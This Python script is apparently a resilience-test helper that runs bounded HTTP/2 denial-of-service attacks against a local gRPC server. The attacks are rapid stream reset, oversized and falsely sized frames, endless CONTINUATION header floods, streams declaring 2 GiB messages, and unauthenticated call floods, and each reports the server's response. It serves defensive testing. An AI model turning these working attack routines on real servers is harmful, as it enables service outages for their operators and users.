"""HTTP/2 attacks on a gRPC server, from Debian's python3-h2 (no gRPC code).

Run by abuse_peer_test.py in a process of its own, so that its work does not
slow the test's probes; each attack is bounded in streams and seconds and
prints one JSON line of what it did and what the server answered:

  h2_attack.py ATTACK --address=127.0.0.1:PORT [--seconds=S] [--count=N]

ATTACK is one of
  rapid_reset   open streams on one connection and cancel each at once
                (HEADERS then RST_STREAM), at most --rate a second
  big_frame     a DATA frame larger than the server's SETTINGS_MAX_FRAME_SIZE
  header_flood  one request whose headers never end: CONTINUATION frames
                carrying --count bytes of header fields
  big_message   --count streams whose gRPC message says it is 2 GiB long,
                each followed by as many bytes as flow control allows, until
                --bytes are sent
  unauth_flood  complete GetPose calls without an API key, up to the
                server's stream limit in flight, for --seconds; with
                --path_bytes, calls of a method with a name that long
"""

import argparse
import json
import select
import socket
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import hpack

GET_POSE = "/yoga.catalog.v1.CatalogService/GetPose"
CANCEL = 0x8
FRAME_SIZE_ERROR = 0x6
# GetPoseRequest{id: "bow"}: field 1, length-delimited.
GET_POSE_BOW = b"\x0a\x03bow"


def grpc_message(payload, declared_length=None):
    """The gRPC length-prefixed message: uncompressed flag, length, bytes."""
    length = len(payload) if declared_length is None else declared_length
    return struct.pack(">BI", 0, length) + payload


def outcome_of(event):
    """How an event ends its stream: "grpc-status N", "reset N", or None."""
    if isinstance(event, h2.events.StreamReset):
        return "reset %d" % event.error_code
    if isinstance(event, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
        status = dict(event.headers).get("grpc-status")
        if status is not None:
            return "grpc-status " + status
    return None


class Client:
    """One HTTP/2 connection over a plain socket (prior knowledge, no TLS)."""

    def __init__(self, address):
        host, _, port = address.rpartition(":")
        self.address = address
        self.sock = socket.create_connection((host, int(port)), timeout=10)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.conn = h2.connection.H2Connection(h2.config.H2Configuration(
            client_side=True, header_encoding="utf-8"))
        self.conn.initiate_connection()
        # A large connection window, so answers never stall on our side.
        self.conn.increment_flow_control_window(1 << 30)
        self.flush()
        self.terminated = None  # the GOAWAY error code, once received
        self.closed = False  # the server closed the socket
        self.events = []
        # Wait for the server's SETTINGS, so its limits are known.
        deadline = time.monotonic() + 10
        while not any(isinstance(e, h2.events.RemoteSettingsChanged) for e in self.events):
            if time.monotonic() > deadline or self.closed:
                raise SystemExit("no SETTINGS from the server")
            self.pump(0.1)

    def headers(self, path=GET_POSE, extra=()):
        return [(":method", "POST"), (":scheme", "http"), (":path", path),
                (":authority", self.address), ("content-type", "application/grpc"),
                ("te", "trailers"), *extra]

    def flush(self):
        data = self.conn.data_to_send()
        if data:
            self.sock.sendall(data)

    def pump(self, timeout=0.0):
        """Reads what the server sent within timeout; returns its events."""
        events = []
        while True:
            ready, _, _ = select.select([self.sock], [], [], timeout)
            if not ready:
                break
            try:
                data = self.sock.recv(1 << 20)
            except (ConnectionResetError, socket.timeout):
                data = b""
            if not data:
                self.closed = True
                break
            try:
                new = self.conn.receive_data(data)
            except h2.exceptions.ProtocolError:
                self.closed = True
                break
            for event in new:
                if isinstance(event, h2.events.ConnectionTerminated):
                    self.terminated = event.error_code
            events.extend(new)
            timeout = 0.0
        try:
            self.flush()
        except OSError:
            self.closed = True
        self.events.extend(events)
        return events

    def raw_frame(self, frame_type, flags, stream_id, payload, length=None):
        """Sends a frame h2 would refuse to make; length may lie."""
        if length is None:
            length = len(payload)
        header = struct.pack(">I", length)[1:] + struct.pack(">BBI", frame_type, flags,
                                                             stream_id)
        self.sock.sendall(header + payload)

    def wait_closed(self, seconds):
        deadline = time.monotonic() + seconds
        while not self.closed and time.monotonic() < deadline:
            self.pump(0.1)
        return self.closed

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def rapid_reset(args):
    client = Client(args.address)
    headers = client.headers()
    opened = 0
    start = time.monotonic()
    deadline = start + args.seconds
    while time.monotonic() < deadline and opened < args.count and not client.closed:
        if args.rate and opened > args.rate * (time.monotonic() - start):
            time.sleep(0.01)
            client.pump(0.0)
            continue
        for _ in range(100):
            stream_id = client.conn.get_next_available_stream_id()
            client.conn.send_headers(stream_id, headers)
            client.conn.reset_stream(stream_id, error_code=CANCEL)
            opened += 1
        try:
            client.flush()
        except OSError:
            client.closed = True
        client.pump(0.0)
        if client.terminated is not None:
            break
    took = time.monotonic() - start
    client.pump(0.2)
    result = {"attack": "rapid_reset", "streams": opened, "seconds": round(took, 3),
              "streams_per_second": round(opened / took), "goaway": client.terminated,
              "closed": client.closed}
    client.close()
    return result


def big_frame(args):
    client = Client(args.address)
    limit = client.conn.remote_settings.max_frame_size
    stream_id = client.conn.get_next_available_stream_id()
    client.conn.send_headers(stream_id, client.headers())
    client.flush()
    declared = min(limit * 4, (1 << 24) - 1)
    # The header declares `declared` bytes; a few KiB follow, then we stop:
    # the server must refuse on the header, not wait for the payload.
    client.raw_frame(0x0, 0x0, stream_id, grpc_message(b"x" * 4096), length=declared)
    closed = client.wait_closed(5)
    result = {"attack": "big_frame", "max_frame_size": limit, "declared": declared,
              "closed": closed, "goaway": client.terminated}
    client.close()
    return result


def header_flood(args):
    client = Client(args.address)
    limit = client.conn.remote_settings.max_frame_size
    encoder = hpack.Encoder()
    first = encoder.encode(client.headers())
    # Header fields never added to the table (so each is all new bytes).
    field = hpack.NeverIndexedHeaderTuple("x-flood", "a" * 4000)
    one = encoder.encode([field])
    stream_id = client.conn.get_next_available_stream_id()
    client.raw_frame(0x1, 0x0, stream_id, first)  # HEADERS, no END_HEADERS
    sent = len(first)
    frames = 0
    start = time.monotonic()
    chunk = one * max(1, min(limit, 16384) // len(one))
    try:
        while sent < args.count and time.monotonic() - start < args.seconds:
            client.raw_frame(0x9, 0x0, stream_id, chunk)  # CONTINUATION
            sent += len(chunk)
            frames += 1
            client.pump(0.0)
            if client.closed:
                break
    except OSError:
        client.closed = True
    closed = client.wait_closed(5)
    result = {"attack": "header_flood", "header_bytes_sent": sent, "frames": frames,
              "closed": closed, "goaway": client.terminated}
    client.close()
    return result


def big_message(args):
    """--count streams over connections of at most 100, each declaring a 2 GiB
    message and sending what flow control allows, round-robin in 16 KiB frames,
    until --bytes are sent in all or --seconds pass; then waits for answers."""
    body_head = grpc_message(b"", declared_length=0x7FFFFFF0)
    chunk = b"\xff" * 16384
    clients = []
    streams = {}  # stream key (client index, id) -> outcome or None
    opened = 0
    while opened < args.count:
        client = Client(args.address)
        per_connection = min(client.conn.remote_settings.max_concurrent_streams or 100, 100)
        for _ in range(min(per_connection, args.count - opened)):
            stream_id = client.conn.get_next_available_stream_id()
            client.conn.send_headers(stream_id, client.headers())
            client.conn.send_data(stream_id, body_head)
            streams[(len(clients), stream_id)] = None
            opened += 1
        client.flush()
        clients.append(client)
    sent = 0
    start = time.monotonic()

    def read_answers(timeout):
        for index, client in enumerate(clients):
            if client.closed:
                continue
            for event in client.pump(timeout):
                key = (index, getattr(event, "stream_id", None))
                if key in streams and streams[key] is None:
                    streams[key] = outcome_of(event)

    while sent < args.bytes and time.monotonic() - start < args.seconds:
        progress = False
        for (index, stream_id), outcome in streams.items():
            client = clients[index]
            if outcome is not None or client.closed:
                continue
            try:
                if client.conn.local_flow_control_window(stream_id) >= len(chunk):
                    client.conn.send_data(stream_id, chunk)
                    sent += len(chunk)
                    progress = True
            except h2.exceptions.H2Error:
                streams[(index, stream_id)] = "closed"
        for client in clients:
            try:
                client.flush()
            except OSError:
                client.closed = True
        read_answers(0.0 if progress else 0.05)
        if all(c.closed for c in clients):
            break
    answer_deadline = time.monotonic() + 10
    while None in streams.values() and time.monotonic() < answer_deadline:
        read_answers(0.1)
        if all(c.closed for c in clients):
            break
    took = time.monotonic() - start
    counts = {}
    for (index, _), outcome in streams.items():
        if outcome is None:
            outcome = "connection closed" if clients[index].closed else "unanswered"
        counts[outcome] = counts.get(outcome, 0) + 1
    for client in clients:
        client.close()
    return {"attack": "big_message", "streams": len(streams), "connections": len(clients),
            "bytes_sent": sent, "seconds": round(took, 3), "outcomes": counts}


def unauth_flood(args):
    client = Client(args.address)
    limit = min(client.conn.remote_settings.max_concurrent_streams or 100, 100)
    body = grpc_message(GET_POSE_BOW)
    path = GET_POSE
    if args.path_bytes:  # A method the server does not have, named at length.
        path = "/yoga.catalog.v1.CatalogService/" + "x" * args.path_bytes
    headers = client.headers(path=path)
    in_flight = set()
    outcomes = {}

    def count_answers(events):
        for event in events:
            outcome = outcome_of(event)
            if outcome is not None and event.stream_id in in_flight:
                outcomes[outcome] = outcomes.get(outcome, 0) + 1
                in_flight.discard(event.stream_id)

    sent = 0
    start = time.monotonic()
    deadline = start + args.seconds
    while time.monotonic() < deadline and sent < args.count and not client.closed:
        while len(in_flight) < limit and sent < args.count:
            stream_id = client.conn.get_next_available_stream_id()
            client.conn.send_headers(stream_id, headers)
            client.conn.send_data(stream_id, body, end_stream=True)
            in_flight.add(stream_id)
            sent += 1
        try:
            client.flush()
        except OSError:
            client.closed = True
        count_answers(client.pump(0.05))
    # The last answers.
    drain_deadline = time.monotonic() + 5
    while in_flight and time.monotonic() < drain_deadline and not client.closed:
        count_answers(client.pump(0.1))
    took = time.monotonic() - start
    result = {"attack": "unauth_flood", "calls": sent, "seconds": round(took, 3),
              "calls_per_second": round(sent / took), "outcomes": outcomes,
              "unanswered": len(in_flight), "closed": client.closed}
    client.close()
    return result


ATTACKS = {"rapid_reset": rapid_reset, "big_frame": big_frame,
           "header_flood": header_flood, "big_message": big_message,
           "unauth_flood": unauth_flood}


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("attack", choices=sorted(ATTACKS))
    parser.add_argument("--address", required=True, help="127.0.0.1:PORT")
    parser.add_argument("--seconds", type=float, default=5)
    parser.add_argument("--count", type=int, default=1000)
    parser.add_argument("--path_bytes", type=int, default=0,
                        help="unauth_flood: call an unknown method with a name this long")
    parser.add_argument("--bytes", type=int, default=64 << 20,
                        help="big_message: stop after sending this many bytes")
    parser.add_argument("--rate", type=float, default=0,
                        help="rapid_reset: at most this many streams a second (0: no cap)")
    args = parser.parse_args()
    print(json.dumps(ATTACKS[args.attack](args)), flush=True)


if __name__ == "__main__":
    sys.exit(main())
